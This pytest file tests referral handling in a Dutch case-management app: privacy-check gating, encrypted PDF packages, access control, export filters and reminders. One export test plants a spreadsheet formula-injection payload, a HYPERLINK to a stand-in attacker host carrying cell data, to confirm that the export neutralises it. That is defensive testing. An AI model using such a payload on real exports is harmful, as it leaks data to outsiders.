"""Referrals (verstrekkingen): a concept that waits for privacy check 2B, a package with only
the approved data categories stored encrypted with its SHA-256, downloads logged, progress up
to the partner's answer, the register with filters and a formula-safe export, reminders."""

import csv
import hashlib
import html
import io
import re
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from casustafel.extensions import db
from casustafel.models import (
    AuditEvent,
    Notification,
    Partner,
    PrivacyCheck,
    ReceivedInformation,
    Referral,
    UserSession,
)
from casustafel.referrals import received_services, services
from tests.helpers.legal_grounds import RIEC_GROUND_TEXT
from tests.helpers.powers import power_ids
from tests.helpers.referrals import (
    PURPOSE,
    client_for,
    create,
    decide_2b,
    events,
    partner,
    pdf_text,
    post,
    referral_form,
    sent_referral,
)

# Dates computed here (today, tomorrow, overdue, this year) are checked against the app's:
# both on the same pinned day (tests/conftest.py).
pytestmark = pytest.mark.usefixtures("pinned_day")

ANSWER = "Antwoord ANSWERMARK van het RIEC"






















def test_a_riec_referral_with_two_approved_categories_is_sent_answered_closed_and_registered(app, scene):
    coordinator, officer, signal = scene
    client = client_for(app, coordinator)
    response = post(client, f"/verstrekkingen/nieuw/{signal.id}", referral_form())
    assert response.status_code == 302
    referral = db.session.scalars(select(Referral)).one()
    assert referral.status == "concept" and referral.purpose == PURPOSE
    assert referral.partner.name == "RIEC"
    check = db.session.scalar(select(PrivacyCheck).where(PrivacyCheck.referral_id == referral.id))
    assert check.kind == "2B" and check.status == "open"

    # Before the decision: no package.
    post(client, f"/verstrekkingen/{referral.id}/versturen", {"bevestigen": "ja"})
    db.session.refresh(referral)
    assert referral.status == "concept" and referral.package_digest is None

    # Check 2B allows descriptions, names and birth dates; the coordinator chose descriptions,
    # names and addresses: the package holds exactly descriptions and names.
    decide_2b(referral, ["beschrijving", "betrokkenen", "geboortedata"], officer=officer)
    assert services.approved_categories(referral) == ["beschrijving", "betrokkenen"]
    assert post(client, f"/verstrekkingen/{referral.id}/versturen", {"bevestigen": "ja"}).status_code == 302
    db.session.refresh(referral)
    assert referral.status == "verstuurd" and referral.sent_on == date.today()
    assert events("referral.sent", referral.id)

    response = client.get(f"/verstrekkingen/{referral.id}/pakket.pdf")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert hashlib.sha256(response.data).hexdigest() == referral.package_sha256
    text = pdf_text(response.data)
    assert "SUMMARYMARK" in text and "PERSONMARK" in text and PURPOSE in text
    assert "DESCRMARK" not in text  # the summary goes, never the reporter's own words
    assert "Beschrijving van de melding, Namen en rol van betrokkenen" in text
    for absent in ("1980", "9876", "REPORTERMARK", "Adressen en panden", "Geboortedata"):
        assert absent not in text, absent
    assert len(events("referral.package_downloaded", referral.id)) == 1

    # The package lies encrypted in the store.
    stored = app.extensions["casustafel_store"].path(referral.id).read_bytes()
    assert b"%PDF" not in stored and b"DESCRMARK" not in stored and b"SUMMARYMARK" not in stored

    # The answer comes back; afgerond needs it.
    url = f"/verstrekkingen/{referral.id}/voortgang"
    response = post(client, url, {"status": "afgerond", "recipient_reference": "RIEC-2026-12", "answer": ""})
    assert "Vul het antwoord van de ontvanger in" in response.get_data(as_text=True)
    db.session.refresh(referral)
    assert referral.status == "verstuurd"
    assert post(client, url, {"status": "afgerond", "recipient_reference": "RIEC-2026-12",
                              "answer": ANSWER}).status_code == 302
    db.session.refresh(referral)
    assert referral.status == "afgerond" and referral.answer == ANSWER
    assert referral.recipient_reference == "RIEC-2026-12" and referral.answered_on == date.today()
    assert b"ANSWERMARK" not in (referral.answer_enc or b"")

    page = client.get(f"/verstrekkingen/?partner={partner('RIEC').id}&status=afgerond").get_data(as_text=True)
    assert signal.reference in page and "Afgerond" in page
    assert "PURPOSEMARK" not in page and "ANSWERMARK" not in page and "PERSONMARK" not in page
    other = client.get(f"/verstrekkingen/?partner={partner('Politie').id}").get_data(as_text=True)
    assert signal.reference not in other


SENT_LABELS = "Beschrijving van de melding, Namen en rol van betrokkenen"
REFUSED_LABEL = "Adressen en panden"


def plain(response) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", html.unescape(response.get_data(as_text=True))).split())


def send_through_the_pages(app, scene, approved) -> Referral:
    """Request descriptions, names and addresses; check 2B allows `approved`; send from the referral page."""
    coordinator, officer, signal = scene
    referral = create(app, coordinator, signal, data_categories=["betrokkenen", "adressen", "beschrijving"])
    decide_2b(referral, approved, officer=officer)
    client = client_for(app, coordinator)
    assert post(client, f"/verstrekkingen/{referral.id}/versturen", {"bevestigen": "ja"},
                from_url=f"/verstrekkingen/{referral.id}").status_code == 302
    db.session.refresh(referral)
    assert referral.status == "verstuurd"
    return referral


def test_register_lists_only_categories_the_package_contained(app, scene):
    referral = send_through_the_pages(app, scene, ["beschrijving", "betrokkenen", "geboortedata"])
    assert referral.sent_categories == ["beschrijving", "betrokkenen"]
    assert referral.data_categories == ["beschrijving", "betrokkenen", "adressen"]  # what was asked stays
    reference = scene[2].reference
    client = client_for(app, scene[0])

    page = plain(client.get("/verstrekkingen/"))
    assert "Verstrekte gegevens" in page
    assert f"RIEC {date.today():%d-%m-%Y} {RIEC_GROUND_TEXT} {SENT_LABELS} Verstuurd" in page
    assert REFUSED_LABEL not in page

    response = client.get("/verstrekkingen/export.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][5] == "Verstrekte gegevens"
    assert rows[1][:2] == [referral.reference, reference] and rows[1][5] == SENT_LABELS
    assert REFUSED_LABEL not in response.data.decode("utf-8-sig")

    sheet = load_workbook(io.BytesIO(client.get("/verstrekkingen/export.xlsx").data)).active
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert cells[0][5] == "Verstrekte gegevens"
    assert cells[1][:2] == [referral.reference, reference] and cells[1][5] == SENT_LABELS
    assert not any(REFUSED_LABEL in str(value) for row in cells for value in row)

    # The referral page states what left; the refused category only as asked for, not sent.
    page = plain(client.get(f"/verstrekkingen/{referral.id}"))
    assert f"Verstrekte gegevens (in het pakket) {SENT_LABELS} Gevraagd maar niet verstrekt {REFUSED_LABEL}" in page
    assert page.count(REFUSED_LABEL) == 1


def test_the_package_holds_exactly_the_categories_stored_as_sent(app, scene):
    markers = {"beschrijving": "SUMMARYMARK", "betrokkenen": "PERSONMARK", "adressen": "9876 ZX",
               "geboortedata": "1980-01-02"}
    referral = send_through_the_pages(app, scene, ["betrokkenen", "adressen", "geboortedata"])
    assert referral.sent_categories == ["betrokkenen", "adressen"]
    response = client_for(app, scene[0]).get(f"/verstrekkingen/{referral.id}/pakket.pdf")
    text = pdf_text(response.data)
    assert f"Verstrekte gegevens {referral.disclosed_label} " in text
    assert referral.disclosed_label == "Namen en rol van betrokkenen, Adressen en panden"
    for category, marker in markers.items():
        assert (marker in text) == (category in referral.sent_categories), category


def test_a_concept_is_not_in_the_register_and_is_shown_as_requested_only(app, scene):
    coordinator, _, signal = scene
    referral = create(app, coordinator, signal)
    client = client_for(app, coordinator)
    page = plain(client.get("/verstrekkingen/"))
    register, concepts = page.split("Concepten: nog niet verstuurd")
    assert "Geen verstrekkingen gevonden" in register and signal.reference not in register
    assert f"{referral.reference} aan RIEC {signal.reference} RIEC" in concepts
    assert "Gevraagd: Beschrijving van de melding, Namen en rol van betrokkenen, Adressen en panden" in concepts
    rows = list(csv.reader(io.StringIO(client.get("/verstrekkingen/export.csv").data.decode("utf-8-sig")),
                           delimiter=";"))
    assert len(rows) == 1  # the header only
    page = plain(client.get(f"/verstrekkingen/{referral.id}"))
    assert ("Gevraagde gegevens Beschrijving van de melding, Namen en rol van betrokkenen, Adressen en panden "
            "(nog niet verstuurd: er is niets verstrekt)") in page
    assert "Verstrekte gegevens" not in page


def test_a_rejected_check_2b_allows_no_package(app, scene):
    coordinator, officer, signal = scene
    referral = create(app, coordinator, signal)
    decide_2b(referral, [], approved=False, officer=officer)
    client = client_for(app, coordinator)
    response = post(client, f"/verstrekkingen/{referral.id}/versturen", {"bevestigen": "ja"})
    assert response.status_code == 302
    db.session.refresh(referral)
    assert referral.status == "concept" and referral.package_digest is None
    assert not app.extensions["casustafel_store"].path(referral.id).exists()


def test_approval_of_only_unchosen_categories_allows_no_package(app, scene):
    coordinator, officer, signal = scene
    referral = create(app, coordinator, signal, data_categories=["beschrijving"])
    decide_2b(referral, ["kvk"], officer=officer)
    with pytest.raises(services.ReferralError):
        services.send_referral(coordinator, referral, store=None, keyring=None, render=None, today=date.today())


def test_the_legal_ground_other_needs_a_note_and_the_form_keeps_what_was_typed(app, scene):
    coordinator, _, signal = scene
    client = client_for(app, coordinator)
    response = post(client, f"/verstrekkingen/nieuw/{signal.id}",
                    referral_form(legal_ground="overig", data_categories=[]))
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Licht de grondslag toe" in page and "Kies minstens één soort gegevens." in page
    assert PURPOSE in page
    assert db.session.scalar(select(Referral.id)) is None


def test_an_inactive_partner_is_not_offered(app, scene):
    coordinator, _, signal = scene
    partner("FIOD").active = False
    db.session.commit()
    client = client_for(app, coordinator)
    page = client.get(f"/verstrekkingen/nieuw/{signal.id}").get_data(as_text=True)
    assert "FIOD" not in page and "RIEC" in page
    response = post(client, f"/verstrekkingen/nieuw/{signal.id}", referral_form(partner_id=str(partner("FIOD").id)))
    assert response.status_code == 200 and db.session.scalar(select(Referral.id)) is None




def test_a_package_download_needs_a_recent_login(app, scene):
    referral = sent_referral(app, scene)
    coordinator = scene[0]
    client = client_for(app, coordinator)
    for session in db.session.scalars(select(UserSession).where(UserSession.user_id == coordinator.id)):
        session.authenticated_at -= app.config["FRESH_LOGIN_WINDOW"] + timedelta(minutes=1)
    db.session.commit()
    response = client.get(f"/verstrekkingen/{referral.id}/pakket.pdf")
    assert response.status_code == 302 and "/inloggen/bevestigen" in response.headers["Location"]
    assert not events("referral.package_downloaded")


def test_an_altered_package_is_never_sent(app, scene):
    referral = sent_referral(app, scene)
    path = app.extensions["casustafel_store"].path(referral.id)
    data = bytearray(path.read_bytes())
    data[-1] ^= 1
    path.write_bytes(bytes(data))
    client = client_for(app, scene[0])
    assert client.get(f"/verstrekkingen/{referral.id}/pakket.pdf").status_code == 500
    assert not events("referral.package_downloaded")


def test_a_concept_has_no_package_and_no_progress(app, scene):
    coordinator, _, signal = scene
    referral = create(app, coordinator, signal)
    client = client_for(app, coordinator)
    assert client.get(f"/verstrekkingen/{referral.id}/pakket.pdf").status_code == 404
    response = post(client, f"/verstrekkingen/{referral.id}/voortgang", {"status": "afgerond", "answer": "x"})
    assert "nadat de verstrekking is verstuurd" in response.get_data(as_text=True)
    db.session.refresh(referral)
    assert referral.status == "concept"


# --- the register export ---------------------------------------------------------------------


def test_an_exported_formula_cell_is_neutralised_and_the_export_holds_no_personal_data(app, scene, make_user):
    formula = '=HYPERLINK("https://kwaad.example/?x="&A1,"klik")'
    db.session.add(Partner(name=formula, position=99, active=True))
    db.session.commit()
    referral = sent_referral(app, scene, partner_id=str(partner(formula).id))
    referral.answer = ANSWER
    db.session.commit()
    client = client_for(app, scene[0])

    response = client.get("/verstrekkingen/export.csv")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["Kenmerk verstrekking", "Kenmerk melding"] and len(rows) == 2
    assert rows[1][2] == "'" + formula
    assert rows[1][0] == referral.reference and rows[1][0].startswith("VS-")
    assert rows[1][1] == scene[2].reference and rows[1][6] == "Verstuurd"
    body = response.data.decode("utf-8-sig")
    for mark in ("PURPOSEMARK", "ANSWERMARK", "PERSONMARK", "DESCRMARK", "SUMMARYMARK", "REPORTERMARK"):
        assert mark not in body

    response = client.get("/verstrekkingen/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet.cell(row=2, column=3).value == "'" + formula
    assert sheet.cell(row=2, column=3).data_type == "s"
    assert [e.reason_code for e in events("referral.register_exported")] == ["csv", "xlsx"]


def test_the_export_follows_the_filters_and_needs_a_recent_login(app, scene):
    sent_referral(app, scene)
    coordinator = scene[0]
    client = client_for(app, coordinator)
    politie = client.get(f"/verstrekkingen/export.csv?partner={partner('Politie').id}")
    assert len(list(csv.reader(io.StringIO(politie.data.decode("utf-8-sig")), delimiter=";"))) == 1
    yesterday = (date.today() - timedelta(days=1)).isoformat()
    earlier = client.get(f"/verstrekkingen/export.csv?sent_until={yesterday}")
    assert len(list(csv.reader(io.StringIO(earlier.data.decode("utf-8-sig")), delimiter=";"))) == 1
    for session in db.session.scalars(select(UserSession).where(UserSession.user_id == coordinator.id)):
        session.authenticated_at -= app.config["FRESH_LOGIN_WINDOW"] + timedelta(minutes=1)
    db.session.commit()
    response = client.get("/verstrekkingen/export.xlsx")
    assert response.status_code == 302 and "/inloggen/bevestigen" in response.headers["Location"]
    assert len(events("referral.register_exported")) == 2


# --- who may do what ---------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["reporter", "member", "privacy_officer", "admin"])
def test_only_the_coordinator_reaches_referrals(app, scene, make_user, role):
    referral = sent_referral(app, scene)
    client = client_for(app, make_user(role))
    for url in ("/verstrekkingen/", f"/verstrekkingen/{referral.id}", f"/verstrekkingen/{referral.id}/pakket.pdf",
                f"/verstrekkingen/nieuw/{scene[2].id}", "/verstrekkingen/export.csv",
                f"/verstrekkingen/ontvangen-informatie/{scene[2].id}"):
        assert client.get(url).status_code == 403, url
    assert post(client, f"/verstrekkingen/{referral.id}/voortgang", {"status": "afgerond"}).status_code == 403
    assert not events("referral.package_downloaded")


def test_an_unknown_referral_answers_404_and_is_logged_as_denied(app, scene):
    import uuid

    client = client_for(app, scene[0])
    missing = uuid.uuid4()
    for response in (client.get(f"/verstrekkingen/{missing}"), client.get(f"/verstrekkingen/{missing}/pakket.pdf"),
                     post(client, f"/verstrekkingen/{missing}/versturen")):
        assert response.status_code == 404
    denied = events("access.denied", missing)
    assert len(denied) == 3 and all(e.object_type == "referral" for e in denied)


def test_the_privacy_officer_sees_the_referral_on_the_open_check_only(app, scene):
    coordinator, officer, signal = scene
    referral = create(app, coordinator, signal)
    check = db.session.scalar(select(PrivacyCheck).where(PrivacyCheck.referral_id == referral.id))
    client = client_for(app, officer)
    page = client.get(f"/privacy/toetsen/{check.id}").get_data(as_text=True)
    assert "Verstrekking aan" in page and "RIEC" in page and "PURPOSEMARK" in page
    assert "Adressen en panden" in page  # the requested categories
    assert client.get(f"/verstrekkingen/{referral.id}").status_code == 403
    response = post(client, f"/privacy/toetsen/{check.id}",
                    {"approved": "ja", "allowed_fields": ["beschrijving"], "rationale": "Past bij het convenant",
                     "powers": [str(i) for i in power_ids()]},
                    from_url=f"/privacy/toetsen/{check.id}")
    assert response.status_code == 302
    db.session.refresh(check)
    assert check.status == "besloten" and check.allowed_fields == ["beschrijving"]
    assert "PURPOSEMARK" not in client.get(f"/privacy/toetsen/{check.id}").get_data(as_text=True)


def test_the_workspace_lists_the_referrals_of_the_signal(app, scene):
    referral = sent_referral(app, scene)
    page = client_for(app, scene[0]).get(f"/meldingen/{scene[2].id}").get_data(as_text=True)
    assert f"/verstrekkingen/{referral.id}" in page and f"/verstrekkingen/nieuw/{scene[2].id}" in page


# --- reminders -----------------------------------------------------------------------------------


def test_an_overdue_feedback_reminds_the_coordinators_once_a_day_without_content(app, scene, make_user):
    referral = sent_referral(app, scene)
    referral.feedback_due = date.today() - timedelta(days=1)
    db.session.commit()
    version = referral.version
    other_coordinator = make_user("coordinator")
    assert services.remind(None, date.today() - timedelta(days=2)) == (0, 0)  # not yet overdue then
    reminded, messages = services.remind(None, date.today())
    db.session.commit()
    assert (reminded, messages) == (1, 2)
    notes = db.session.scalars(select(Notification).where(Notification.subject == services.REMINDER_SUBJECT)).all()
    assert {n.recipient_id for n in notes} == {scene[0].id, other_coordinator.id}
    for note in notes:
        assert scene[2].reference not in note.body and "RIEC" not in note.body and "RIEC" not in note.subject
    assert services.remind(None, date.today()) == (0, 0)  # once a day
    db.session.refresh(referral)
    assert referral.last_reminded_at is not None and referral.version == version
    referral.answer, referral.answered_on = ANSWER, date.today()
    referral.last_reminded_at = None
    db.session.commit()
    assert services.remind(None, date.today()) == (0, 0)  # answered: no reminder


def test_overdue_feedback_is_marked_on_the_referral_and_in_the_register_until_answered(app, scene):
    referral = sent_referral(app, scene)
    coordinator = client_for(app, scene[0])
    assert not referral.feedback_overdue(date.today())  # due in two weeks
    referral.feedback_due = date.today() - timedelta(days=1)
    db.session.commit()
    assert referral.feedback_overdue(date.today()) and not referral.feedback_overdue(date.today() - timedelta(days=1))
    assert "(verlopen)" in coordinator.get(f"/verstrekkingen/{referral.id}").get_data(as_text=True)
    assert "<strong>(verlopen)</strong>" in coordinator.get("/verstrekkingen/").get_data(as_text=True)
    referral.answer, referral.answered_on = ANSWER, date.today()
    db.session.commit()
    assert not referral.feedback_overdue(date.today())
    assert "(verlopen)" not in coordinator.get(f"/verstrekkingen/{referral.id}").get_data(as_text=True)
    assert "(verlopen)" not in coordinator.get("/verstrekkingen/").get_data(as_text=True)


def test_the_remind_command_runs(app, scene):
    referral = sent_referral(app, scene)
    referral.feedback_due = date.today() - timedelta(days=3)
    db.session.commit()
    result = app.test_cli_runner().invoke(args=["referrals", "remind"])
    assert result.exit_code == 0 and "1 verstrekking" in result.output
    assert events("referral.reminded", referral.id)


# --- admin: the partner list ---------------------------------------------------------------------


def test_the_admin_adds_deactivates_and_marks_partners_internal(app, make_user):
    admin = make_user("admin")
    client = client_for(app, admin)
    assert post(client, "/beheer/verstrekkingspartners", {"name": "Afdeling Vergunningen", "internal": "y"},
                from_url="/beheer/verstrekkingspartners").status_code == 302
    added = partner("Afdeling Vergunningen")
    assert added.internal and added.active
    duplicate = post(client, "/beheer/verstrekkingspartners", {"name": "riec"},
                     from_url="/beheer/verstrekkingspartners")
    assert "staat al in de lijst" in duplicate.get_data(as_text=True)
    assert post(client, "/beheer/verstrekkingspartners", {"name": "Afdeling Ærø-Çelik"},
                from_url="/beheer/verstrekkingspartners").status_code == 302
    twice = post(client, "/beheer/verstrekkingspartners", {"name": "afdeling ærø-çelik"},  # SQLite's lower() misses Æ
                 from_url="/beheer/verstrekkingspartners")
    assert "staat al in de lijst" in twice.get_data(as_text=True)
    post(client, f"/beheer/verstrekkingspartners/{added.id}/in-gebruik", from_url="/beheer/verstrekkingspartners")
    post(client, f"/beheer/verstrekkingspartners/{added.id}/intern", from_url="/beheer/verstrekkingspartners")
    db.session.refresh(added)
    assert not added.active and not added.internal
    assert [e.action for e in db.session.scalars(select(AuditEvent).where(AuditEvent.object_type == "partner")
                                                 .order_by(AuditEvent.seq))] == [
        "partner.created", "partner.created", "partner.deactivated", "partner.marked_external"]
    assert post(client, "/beheer/verstrekkingspartners/99999/intern",
                from_url="/beheer/verstrekkingspartners").status_code == 404


def test_received_information_is_untouched_by_a_referral(app, scene):
    """Sending leaves received information where it is (it is deleted only at closing)."""
    coordinator, _, signal = scene
    received_services.add_received_information(coordinator, signal, ground="wpg_19", received_on=date.today(),
                                               content="x")
    db.session.commit()
    sent_referral(app, scene)
    assert db.session.scalar(select(ReceivedInformation.id)) is not None
